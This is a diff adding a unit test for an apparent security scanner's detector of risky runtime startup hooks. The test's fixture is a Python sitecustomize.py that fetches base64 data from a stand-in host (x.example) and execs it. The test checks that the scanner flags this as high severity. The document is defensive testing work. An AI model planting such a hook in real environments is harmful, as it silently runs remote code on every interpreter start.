@@ -120,6 +120,21 @@ describe('runtime-startup-hook', () => {
     ]);
   });
 
+  it('reads a sitecustomize.py to say what it does, and rates it high whatever it does', () => {
+    const e = file('python/sitecustomize.py');
+    expect(runtimeStartupHook.wants(e)).toBe(PTH_BYTES);
+    const [s] = runtimeStartupHook.evaluate(
+      view([e], {
+        [e.path]:
+          "# harmless\nimport os, base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen('https://x.example').read()))\n",
+      }),
+    );
+    expect(s?.severity).toBe('high');
+    expect(s?.reason).toMatch(
+      /its code uses the network \(urllib\); decodes or evaluates data \(exec\(, base64\.b64decode\)/,
+    );
+  });
+
   it.each([
     'ruby/lib/rubygems.rb',
     'ruby/lib/rubygems/defaults/operating_system.rb',
